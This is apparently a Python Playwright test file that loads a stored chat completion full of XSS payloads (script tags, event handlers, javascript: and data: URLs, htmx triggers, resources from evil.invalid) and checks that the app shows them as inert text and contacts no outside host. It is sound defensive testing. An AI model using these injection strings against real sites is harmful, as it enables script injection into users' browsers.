"""What stands in a conversation is text: it asks nothing of other hosts, runs nothing, and changes nothing."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any
from urllib.parse import quote, urlsplit

import pytest
from playwright.sync_api import Page, expect

from tests.browser.reading import MESSAGES, settle, walk_to_the_end
from tests.conftest import make_choice, make_completion, say

MARKUP = " ".join(
    [
        "\"'></title></textarea></script></pre></details>",
        "<script>window.pwned = 1; alert(1)</script>",
        "<script src=//evil.invalid/x.js></script>",
        '<img src="http://evil.invalid/pixel.png" onerror="window.pwned=1">',
        "<svg onload=window.pwned=1><image href='//evil.invalid/svg.png'/></svg>",
        "<iframe src='javascript:parent.pwned=1'></iframe><iframe src=//evil.invalid></iframe>",
        "<link rel=stylesheet href=//evil.invalid/x.css><style>@import '//evil.invalid/y.css'</style>",
        '<meta http-equiv=refresh content="0;url=http://evil.invalid/">',
        '<div hx-get="/login/" hx-trigger="load" hx-target="body">load</div>',
        "<div hx-on:click=window.pwned=1 data-hx-get=//evil.invalid hx-trigger=load>x</div>",
        "<form action=//evil.invalid><button autofocus onfocus=window.pwned=1>go</button></form>",
        "<audio src=//evil.invalid/a.mp3 autoplay></audio><video poster=//evil.invalid/p.png></video>",
        "![markdown](http://evil.invalid/md.png) [link](javascript:window.pwned=1)",
        "{{ 7|add:7 }} {% debug %} ${window.pwned=1} <!-- --><base href=//evil.invalid/>",
    ]
)
SCRIPT_ADDRESS = "javascript:window.pwned=1"
MESSAGE_ID = "m\"autofocus=''onfocus='window.pwned=1'x=<b>&amp;"
COMPLETION_ID = "chatcmpl-<img&src=x&onerror=window.pwned=1>'\""
PICTURES = [
    "http://evil.invalid/remote.png",
    "//evil.invalid/without-a-scheme.png",
    " HTTP://evil.invalid/blank.png",
    SCRIPT_ADDRESS,
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:text/html,<script>parent.pwned=1</script>",
    '" onerror="window.pwned=1',
]


def hostile() -> dict[str, Any]:
    """A completion with markup in every slot that holds text, and enough messages for three pages."""
    parts = [
        {"type": "text", "text": MARKUP},
        *({"type": "image_url", "image_url": {"url": url, "detail": MARKUP}} for url in PICTURES),
        {"type": "input_audio", "input_audio": {"data": "http://evil.invalid/a.wav", "format": MARKUP}},
        {"type": "file", "file": {"filename": MARKUP, "file_id": MARKUP, "file_data": "http://evil.invalid/f"}},
        {"type": MARKUP, "image_url": {"url": "http://evil.invalid/unknown.png"}},
    ]
    call = {"id": MARKUP, "type": "function", "function": {"name": MARKUP, "arguments": MARKUP}}
    custom = {"id": "call_2", "type": "custom", "custom": {"name": MARKUP, "input": MARKUP}}
    strange = {"id": "call_3", "type": MARKUP, MARKUP: MARKUP}
    cited = [
        {"type": "url_citation", "url_citation": {"url": url, "title": MARKUP, "start_index": 0, "end_index": 4}}
        for url in (SCRIPT_ADDRESS, " java\tscript:window.pwned=1", "http://evil.invalid/", "data:text/html,x", MARKUP)
    ]
    messages = [
        say("system", MARKUP, name=MARKUP),
        say("user", None, content_parts=parts, name=MARKUP),
        say("assistant", MARKUP, tool_calls=[call, custom, strange], annotations=cited, refusal=MARKUP),
        say("tool", MARKUP, tool_call_id=MARKUP, name=MARKUP),
        say("tool", '{"error": ' + f'"{quote(MARKUP)}"' + "}", tool_call_id="call_2"),
        say(MARKUP, MARKUP, **{MARKUP: MARKUP}),
        {"id": MESSAGE_ID, **say("assistant", MARKUP, reasoning_content=MARKUP)},
        say("assistant", None, function_call={"name": MARKUP, "arguments": MARKUP}),
        say("assistant", None, audio={"id": MARKUP, "data": "//evil.invalid", "transcript": MARKUP, "expires_at": 1}),
        *(say("user", f"{n} {MARKUP}") for n in range(40)),
    ]
    choices = [
        make_choice(MARKUP, finish_reason=MARKUP, annotations=cited, tool_calls=[call]),
        make_choice(None, 1, refusal=MARKUP, finish_reason=MARKUP),
    ]
    return make_completion(
        COMPLETION_ID,
        *messages,
        model=MARKUP[:250],
        metadata={MARKUP[:60]: MARKUP, "plain": SCRIPT_ADDRESS},
        choices=choices,
        system_fingerprint=MARKUP,
    )


class Watched:
    """Notes what a page asks for, says and breaks."""

    def __init__(self, page: Page) -> None:
        self.hosts: set[str] = set()
        self.wrongs: list[str] = []
        page.on("request", lambda request: self._note(request.url))
        page.on("dialog", lambda dialog: (self.wrongs.append(f"dialog: {dialog.message}"), dialog.dismiss()))
        page.on("pageerror", lambda error: self.wrongs.append(f"page error: {error}"))
        page.on("console", lambda said: self._note_warning(said.type, said.text, said.location["url"]))
        page.on("popup", lambda opened: self.wrongs.append(f"window: {opened.url}"))

    def _note_warning(self, kind: str, text: str, url: str) -> None:
        if kind in ("error", "warning") and not url.endswith(
            "/favicon.ico"
        ):  # Chromium asks for it where there is no page
            self.wrongs.append(text)

    def _note(self, url: str) -> None:
        parts = urlsplit(url)
        if parts.scheme not in ("data", "blob"):
            self.hosts.add(parts.netloc)


@pytest.fixture
def watched(page: Page, stored: Callable) -> Watched:
    stored(hostile())
    return Watched(page)


def open_everything_that_folds(page: Page) -> None:
    page.evaluate("document.querySelectorAll('details').forEach((fold) => (fold.open = true))")
    settle(page)


def expect_nothing_happened(page: Page, watched: Watched, site: str) -> None:
    page.wait_for_load_state("networkidle")
    assert watched.hosts == {urlsplit(site).netloc}
    assert watched.wrongs == []
    assert page.evaluate("window.pwned") is None
    assert page.evaluate("document.baseURI").startswith(site)


def test_the_list_shows_hostile_text_as_text(page: Page, watched: Watched, site: str) -> None:
    page.goto(f"{site}/completions/")
    expect(page.locator(".row__title")).to_contain_text("<script>window.pwned = 1; alert(1)</script>")
    expect_nothing_happened(page, watched, site)


def test_a_filter_shows_hostile_text_as_text(page: Page, watched: Watched, site: str) -> None:
    page.goto(f"{site}/completions/?model={quote(MARKUP)}&metadata[{quote(MARKUP)}]={quote(MARKUP)}")
    expect(page.locator(".filter-chip")).to_have_count(2)
    expect_nothing_happened(page, watched, site)


def test_a_conversation_shows_hostile_text_as_text(page: Page, watched: Watched, site: str) -> None:
    page.goto(f"{site}/completions/")
    page.locator(".row__title").click()
    expect(page.locator(MESSAGES).first).to_be_visible()
    walk_to_the_end(page)
    open_everything_that_folds(page)
    expect(page.locator(MESSAGES)).to_have_count(49)
    expect(page.locator("[data-choice]")).to_have_count(2)
    expect(page.locator("article :is(script, iframe, svg, form, link, style, meta, video)")).to_have_count(0)
    expect_nothing_happened(page, watched, site)


def test_text_comes_out_to_the_character(page: Page, watched: Watched, site: str) -> None:
    page.goto(f"{site}/completions/{quote(COMPLETION_ID, safe='')}/")
    walk_to_the_end(page)
    assert page.locator(f"{MESSAGES} [data-part=text]").last.text_content() == f"39 {MARKUP}"


def test_a_permalink_with_a_hostile_id_opens_at_its_message(page: Page, watched: Watched, site: str) -> None:
    page.goto(f"{site}/completions/{quote(COMPLETION_ID, safe='')}/messages/{quote(MESSAGE_ID, safe='')}/")
    linked = page.locator('article[aria-current="true"]')
    expect(linked).to_have_attribute("data-message-id", MESSAGE_ID)
    open_everything_that_folds(page)
    expect_nothing_happened(page, watched, site)


def test_no_link_of_a_conversation_runs_a_script(page: Page, watched: Watched, site: str) -> None:
    page.goto(f"{site}/completions/{quote(COMPLETION_ID, safe='')}/")
    walk_to_the_end(page)
    schemes = page.locator("[href], [src], [action]").evaluate_all(
        "found => [...new Set(found.flatMap(one => [one.href, one.src, one.action])"
        ".filter(url => typeof url === 'string' && url).map(url => new URL(url).protocol))]"
    )
    assert set(schemes) <= {"http:", "https:"}


def test_the_raw_json_is_not_read_as_a_page(page: Page, watched: Watched, site: str) -> None:
    page.goto(f"{site}/completions/{quote(COMPLETION_ID, safe='')}/raw/")
    expect_nothing_happened(page, watched, site)


def test_a_problem_page_shows_a_hostile_id_as_text(page: Page, watched: Watched, site: str) -> None:
    answer = page.goto(f"{site}/completions/{quote('<script>window.pwned=1<script>')}/")
    assert answer.status == 404
    expect(page.locator("main code").first).to_have_text("<script>window.pwned=1<script>")
    watched.wrongs = [wrong for wrong in watched.wrongs if "404" not in wrong]
    expect_nothing_happened(page, watched, site)


@pytest.mark.parametrize("path", ["/login/", "/tokens/", "/password/", "/completions/open/?id=%3Cscript%3E/"])
def test_no_other_page_breaks_our_own_policy(page: Page, watched: Watched, site: str, path: str) -> None:
    page.goto(site + path)
    expect_nothing_happened(page, watched, site)


def test_the_admin_asks_nothing_of_other_hosts(strangers_page: Page, alice: Any, site: str) -> None:
    watched = Watched(strangers_page)
    strangers_page.goto(f"{site}/admin/login/")
    assert watched.hosts == {urlsplit(site).netloc}
